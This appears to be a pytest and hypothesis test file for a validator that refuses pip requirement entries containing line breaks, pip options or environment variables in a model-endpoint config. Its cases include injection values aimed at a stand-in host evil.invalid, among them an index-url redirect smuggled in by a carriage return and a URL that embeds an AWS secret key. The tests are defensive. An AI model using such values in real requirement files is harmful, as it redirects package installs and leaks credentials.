"""A version's requirements: one pip requirement per entry, as `packaging` parses it, and nothing
pip would read as another line, an option or an environment variable."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from specification.pip_requirements import LINE_BREAKS, check_pip_requirement
from specification.stack_config import StackConfigError, validate_stack_config

ENDPOINTS = "model-endpoints:endpoints"


def _stack_with(requirements: list[str]) -> dict[str, object]:
    version = {"name": "v1", "inference_config": {"entry_script": "score.py", "requirements": requirements}}
    return {ENDPOINTS: [{"name": "ep", "versions": [version]}]}


@pytest.mark.parametrize(
    "requirement",
    [
        "numpy",
        "numpy==1.26.4",
        "scikit-learn>=1.3,<2",
        "requests[socks]>=2.31",
        'numpy; python_version < "3.12"',
        "six @ https://files.example/six-1.16.0-py2.py3-none-any.whl",
        "  numpy>=1.26  ",  # surrounding blanks were accepted before and still are
    ],
)
def test_what_pip_reads_as_one_requirement_is_accepted(requirement: str) -> None:
    assert check_pip_requirement(requirement) == requirement


def test_the_reported_carriage_return_injection_fails_the_preview_naming_the_field() -> None:
    with pytest.raises(StackConfigError) as raised:
        validate_stack_config(_stack_with(["numpy", "six\r--index-url http://evil.invalid"]))
    (line,) = [line for line in str(raised.value).splitlines() if "requirements" in line]
    assert line.startswith(
        "model-endpoints:endpoints[0].versions[0].inference_config.requirements[1]: "
        "'six\\r--index-url http://evil.invalid' contains a line break ('\\r')"
    )


@pytest.mark.parametrize("line_break", sorted(LINE_BREAKS))
def test_every_line_break_is_refused(line_break: str) -> None:
    with pytest.raises(ValueError, match="contains a line break"):
        check_pip_requirement(f"six{line_break}--index-url http://evil.invalid")
    with pytest.raises(ValueError, match="contains a line break"):
        check_pip_requirement(f"six==1.16.0{line_break}")  # even where packaging strips it


def test_the_line_breaks_are_those_python_splits_lines_at() -> None:
    text = "".join(f"a{char}" for char in sorted(LINE_BREAKS)) + "a"
    assert len(text.splitlines()) == len(LINE_BREAKS) + 1
    assert {chr(c) for c in range(0x110000) if len(f"a{chr(c)}b".splitlines()) == 2} == LINE_BREAKS


@pytest.mark.parametrize(
    ("requirement", "rule"),
    [
        ("", "is empty"),
        ("   ", "is empty"),
        ("-r other.txt", "'-r', which pip reads as an option"),
        ("--extra-index-url http://evil.invalid", "which pip reads as an option"),
        ("-e .", "which pip reads as an option"),
        ("numpy --index-url=http://evil.invalid", "'--index-url=http://evil.invalid', which pip"),
        ('six; platform_release == "x --index-url=http://evil.invalid"', "which pip reads as an option"),
        ("six @ https://${AWS_SECRET_ACCESS_KEY}.evil.invalid/six.whl", "environment variable"),
        ("numpy #pinned later", "is not one pip requirement"),
        ("numpy\tscipy", "is not one pip requirement"),
        ("six @ https://files.example/a b.whl", "is not one pip requirement"),
        ("nümpy", "is not one pip requirement"),
        ("six\\", "is not one pip requirement"),  # pip joins a line ending in '\' with the next
    ],
)
def test_anything_but_one_requirement_is_refused_with_the_rule(requirement: str, rule: str) -> None:
    with pytest.raises(ValueError) as raised:
        check_pip_requirement(requirement)
    message = str(raised.value)
    assert message.startswith(repr(requirement)) and rule in message


@settings(max_examples=200, deadline=None)
@given(
    before=st.text(max_size=12),
    line_break=st.sampled_from(sorted(LINE_BREAKS)),
    after=st.text(max_size=12),
)
def test_no_entry_with_a_line_break_is_ever_accepted(before: str, line_break: str, after: str) -> None:
    with pytest.raises(ValueError):
        check_pip_requirement(before + line_break + after)
